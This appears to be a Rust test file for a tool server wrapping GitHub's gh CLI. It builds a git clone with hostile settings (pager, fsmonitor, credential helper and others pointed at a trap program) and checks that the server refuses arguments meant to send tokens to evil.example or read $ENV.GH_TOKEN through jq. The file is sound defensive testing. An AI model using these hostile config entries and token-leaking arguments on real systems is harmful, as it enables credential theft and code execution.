//! A hostile clone, hosts that are not GitHub, and programs that read the environment.

use std::fs;
use std::process::Command;

use climax_tests::{Folder, Server, is_installed, run};
use serde_json::json;

use super::{HostileProject, RecordingServer, Trap, refuses, without_proxies};
use crate::climax;

const TOKENS: [(&str, &str); 2] = [("GH_TOKEN", "hunter2"), ("GH_ENTERPRISE_TOKEN", "hunter3")];

/// The folders of a clone with hostile settings, and of gh, whose requests all arrive at one socket.
struct Machine {
    trap: Trap,
    clone: Folder,
    home: Folder,
    api: RecordingServer,
}

impl Machine {
    fn new() -> Self {
        let (trap, clone, home) = (Trap::new(), Folder::new(), Folder::new());
        let api =
            RecordingServer::start_on_socket(&home.path().join("socket"), |_| (200, "{}".into()));
        let settings = format!("http_unix_socket: {}\n", api.address);
        fs::write(home.path().join("config.yml"), settings).expect("a file");
        let program = trap.program();
        let program = program.to_str().expect("a path");
        for words in [
            &["init", "--quiet", "--initial-branch=main"][..],
            &["remote", "add", "origin", "https://github.com/cli/cli"],
            &["remote", "add", "evil", "https://evil.example/cli/cli"],
            &["config", "remote.evil.gh-resolved", "base"],
            &[
                "config",
                "remote.origin.gh-resolved",
                "evil.example/cli/cli",
            ],
            &[
                "config",
                "branch.main.remote",
                "https://evil.example/cli/cli",
            ],
            &["config", "branch.main.merge", "refs/heads/main"],
            &["config", "core.fsmonitor", program],
            &["config", "core.pager", program],
            &["config", "core.editor", program],
            &["config", "core.askPass", program],
            &["config", "core.sshCommand", program],
            &["config", "credential.helper", program],
            &["config", "alias.remote", &format!("!{program}")],
        ] {
            let output = run(Command::new("git").arg("-C").arg(clone.path()).args(words));
            assert!(output.status.success(), "{words:?}: {output:?}");
        }
        fs::write(clone.path().join("README.md"), "text\n").expect("a file");
        Self {
            trap,
            clone,
            home,
            api,
        }
    }

    fn isolated(&self, mut command: Command) -> Command {
        without_proxies(&mut command)
            .current_dir(self.clone.path())
            .env("GH_CONFIG_DIR", self.home.path())
            .env("XDG_CACHE_HOME", self.home.path())
            .env("XDG_STATE_HOME", self.home.path())
            .env_remove("GH_HOST")
            .envs(TOKENS);
        command
    }

    fn server(&self) -> Server {
        Server::start(&mut self.isolated(climax()))
    }

    /// Runs gh without CLImax, and returns what it prints.
    fn gh(&self, words: &[&str]) -> String {
        let mut gh = Command::new("gh");
        gh.args(words);
        let output = run(&mut self.isolated(gh));
        String::from_utf8_lossy(&output.stdout).into_owned()
    }
}

#[test]
fn looking_at_github_in_a_hostile_clone_executes_no_programs_and_asks_no_other_host() {
    if !is_installed("gh") {
        return;
    }
    let machine = Machine::new();
    run(Command::new("git")
        .arg("-C")
        .arg(machine.clone.path())
        .arg("status"));
    assert_ne!(machine.trap.take_marks(), "", "the trap works");
    let mut server = machine.server();
    let calls = [
        ("gh_pr_view", json!({})),
        ("gh_pr_checks", json!({})),
        (
            "gh_pr_view",
            json!({"pr": "https://github.com/cli/cli/pull/128"}),
        ),
        ("gh_pr_view", json!({"pr": "ada:fix/parser"})),
        (
            "gh_issue_view",
            json!({"issue": "https://github.com/cli/cli/issues/42"}),
        ),
        ("gh_repo_view", json!({"repo": "cli/cli.github.com"})),
        (
            "gh_api_get",
            json!({"endpoint": "/repos/{owner}/{repo}/contents/a b.md?ref=a:b"}),
        ),
        (
            "gh_api_get",
            json!({"endpoint": "user", "headers": ["Accept: application/vnd.github.raw"]}),
        ),
        (
            "gh_pr_list",
            json!({"json_fields": ["title"], "jq": "map(select(.title | test(\"envelope\"))) | .[0:3]"}),
        ),
    ];
    let mut hostile = HostileProject {
        server: &mut server,
        cli: "gh",
        path: machine.clone.path(),
        trap: &machine.trap,
        secret: "hunter",
    };
    hostile.call_read_tools(&calls);
    let words = [
        "--hostname=evil.example",
        "https://evil.example/a/b/pull/1",
        "evil.example/a/b",
        "@README.md",
        "$ENV.GH_TOKEN",
    ];
    hostile.call_read_tools_with_words(&words);
    let requests = machine.api.take_requests();
    assert!(requests.contains("Host: api.github.com"), "{requests}");
    assert!(!requests.contains("evil.example\r\n"), "{requests}");
}

#[test]
fn gh_sends_its_tokens_to_no_host_that_an_argument_names() {
    if !is_installed("gh") {
        return;
    }
    let machine = Machine::new();
    machine.gh(&["pr", "view", "https://evil.example/a/b/pull/1"]);
    let requests = machine.api.take_requests();
    assert!(
        requests.contains("Host: evil.example") && requests.contains("hunter3"),
        "gh sends it"
    );
    let mut server = machine.server();
    for (tool, arguments) in [
        (
            "gh_pr_view",
            json!({"pr": "https://evil.example/a/b/pull/1"}),
        ),
        (
            "gh_pr_view",
            json!({"pr": "https://github.com@evil.example/a/b/pull/1"}),
        ),
        ("gh_pr_diff", json!({"pr": "1", "repo": "evil.example/a/b"})),
        (
            "gh_pr_checkout",
            json!({"pr": "http://evil.example/a/b/pull/1"}),
        ),
        (
            "gh_pr_merge",
            json!({"pr": "https://evil.example/a/b/pull/1", "method": "--squash"}),
        ),
        (
            "gh_issue_view",
            json!({"issue": "https://evil.example/a/b/issues/1"}),
        ),
        (
            "gh_issue_create",
            json!({"title": "a", "repo": "https://evil.example/a/b"}),
        ),
        ("gh_repo_view", json!({"repo": "https://evil.example/a/b"})),
        ("gh_repo_clone", json!({"repo": "https://evil.example/a/b"})),
        ("gh_api_get", json!({"endpoint": "https://evil.example/a"})),
        ("gh_api_get", json!({"endpoint": "//evil.example/a"})),
        (
            "gh_api_get",
            json!({"endpoint": "user", "headers": ["Host: evil.example"]}),
        ),
        (
            "gh_api_get",
            json!({"endpoint": "user", "headers": ["X-HTTP-Method-Override: DELETE"]}),
        ),
        ("gh_run_view", json!({"run": "1/../2"})),
        ("gh_search_issues", json!({"repo": "evil.example/a/b"})),
        ("gh_issue_list", json!({"label": "a,b"})),
        (
            "gh_release_create",
            json!({"tag": "v1", "path": "notes.txt#.env"}),
        ),
    ] {
        refuses(&mut server, tool, &arguments);
    }
    assert_eq!(machine.api.take_requests(), "");
}

#[test]
fn jq_programs_of_gh_read_no_variables() {
    if !is_installed("gh") {
        return;
    }
    let machine = Machine::new();
    let shown = machine.gh(&["api", "user", "--jq", "env.GH_TOKEN"]);
    assert!(shown.contains("hunter2"), "gh shows it: {shown}");
    let mut server = machine.server();
    for jq in [
        "env",
        "env.GH_TOKEN",
        "$ENV.GH_TOKEN",
        "$ENV | keys",
        ".a | env",
        "[env]",
        "\"\\(env.GH_TOKEN)\"",
        "def f: env; f",
        "$__loc__, env",
        ".a as $b|env|keys",
    ] {
        refuses(
            &mut server,
            "gh_api_get",
            &json!({"endpoint": "user", "jq": jq}),
        );
        let arguments = json!({"json_fields": ["title"], "jq": jq});
        refuses(&mut server, "gh_issue_list", &arguments);
    }
    for jq in [
        ".[].title",
        ".environment",
        "map(.e, .en, .envs, .event, ._env)",
        "",
        ".",
        "[.[] | {a: .b}]",
    ] {
        let response = server.call("gh_api_get", &json!({"endpoint": "user", "jq": jq}));
        let is_refused = response.text.starts_with("Argument validation failed");
        assert!(!is_refused, "{jq}: {response:?}");
        assert!(!response.text.contains("hunter"), "{jq}: {response:?}");
    }
}
